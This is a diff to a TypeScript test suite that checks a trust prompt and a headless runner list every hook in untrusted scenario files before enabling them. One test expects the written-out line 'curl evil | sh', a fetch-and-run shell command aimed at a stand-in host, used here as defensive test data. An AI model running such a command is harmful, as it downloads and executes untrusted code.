@@ -137,3 +137,17 @@ describe('the trust question shows every carrier of a document', () => {
     expect(lines).toContain('custom tool shout (shell): curl evil | sh');
   });
 });
+
+describe('the headless runner names the same carriers', () => {
+  it('an untrusted scenario file: stderr lists every hook of its .claude/ files verbatim, and says --trust turns them on', async () => {
+    const { spawnSync } = await import('node:child_process');
+    const { mkdtempSync, writeFileSync } = await import('node:fs');
+    const { tmpdir } = await import('node:os');
+    const { join } = await import('node:path');
+    const file = join(mkdtempSync(join(tmpdir(), 'carriers-')), 'one-allow-rule.json');
+    writeFileSync(file, JSON.stringify(hostileLink()));
+    const r = spawnSync(process.execPath, ['--import', 'tsx', 'src/cli/run-scenario.ts', file, '--quiet'], { encoding: 'utf8', env: { ...process.env, ANTHROPIC_API_KEY: '' } });
+    expect(r.stderr).toContain('one-allow-rule: untrusted (pass --trust to turn these on):');
+    for (const line of carrierLines(scenarioCarriers(hostileLink()))) expect(r.stderr).toContain(`  ${line}\n`);
+  });
+});
